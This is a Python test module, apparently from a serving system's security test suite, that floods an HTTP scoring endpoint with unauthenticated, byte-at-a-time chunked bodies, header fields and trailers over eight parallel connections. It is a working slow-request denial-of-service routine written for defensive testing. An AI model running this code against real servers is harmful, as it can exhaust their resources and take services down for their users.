"""Chunks, header fields and trailers of a byte each, without a token, over eight connections at once."""

import itertools
import socket
import threading
import time
from contextlib import suppress

from tests.serving.attacks.target import Target

CONNECTIONS = 8
ANSWER_S = 1.0
HEAD = b"POST /v1/score HTTP/1.1\r\nHost: x\r\n"
CHUNKED = HEAD + b"Transfer-Encoding: chunked\r\n\r\n"
# What begins a request, and what is repeated then, so many times at most.
STREAMS = (
    (CHUNKED, b"1\r\n \r\n" * 20_000, 100),
    (HEAD, b"a:\r\n" * 10_000, 100),
    (CHUNKED + b"0\r\n", b"a:\r\n" * 10_000, 100),
    (HEAD + b"Content-Length: 100000000\r\n\r\n", b" ", 20_000),
    (HEAD, b"a", 20_000),
)


def attack(target: Target, until: float) -> int:
    """Send them, again and again, for a token that is not there where the server wants one."""
    sent = [0] * CONNECTIONS

    def send(number: int) -> None:
        for head, piece, times in itertools.cycle(STREAMS[number % len(STREAMS) :] + STREAMS):
            if time.monotonic() >= until:
                return
            with suppress(OSError):
                _stream(target, head, piece, times, until)
            sent[number] += 1

    threads = [threading.Thread(target=send, args=(number,)) for number in range(CONNECTIONS)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    return sum(sent)


def _stream(target: Target, head: bytes, piece: bytes, times: int, until: float) -> None:
    host, _, port = target.http.rpartition(":")
    with socket.create_connection((host, int(port)), timeout=5) as connection:
        # Each byte leaves in a packet of its own.
        connection.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        connection.sendall(head)
        with suppress(OSError):
            for _ in range(times):
                if time.monotonic() >= until:
                    break
                connection.sendall(piece)
        connection.settimeout(ANSWER_S)
        while connection.recv(2**16):
            pass
